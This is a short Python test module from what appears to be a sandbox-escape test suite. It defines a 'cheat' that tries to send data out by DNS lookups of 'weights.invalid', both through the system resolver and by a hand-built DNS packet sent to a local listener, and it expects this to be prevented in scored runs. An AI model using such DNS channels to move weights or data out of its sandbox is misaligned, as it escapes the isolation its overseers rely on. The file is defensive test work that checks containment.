"""Sends its data out in the names that it asks the network for."""

import socket
from pathlib import Path

from overnight.testing.cheats.cheat import Cheat, Layout, prevented
from overnight.testing.cheats.moves import change_idly, tried, try_everywhere
from overnight.testing.cheats.places import places

CHEAT = Cheat({Layout.SCORED: prevented("no resolver can be reached")})


def cheat(workspace: Path) -> None:
    """Try it while proposing and while being measured."""
    change_idly(workspace)
    try_everywhere(workspace, ask)


def ask() -> None:
    """By the system's resolver, and by hand."""
    question = (
        b"\x00\x01\x01\x00\x00\x01" + bytes(6) + b"\x07weights\x07invalid\x00\x00\x01\x00\x01"
    )
    by_hand = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tried(
        lambda: socket.getaddrinfo("weights.invalid", 443),
        lambda: by_hand.sendto(question, ("127.0.0.1", places().listener_port)),
    )
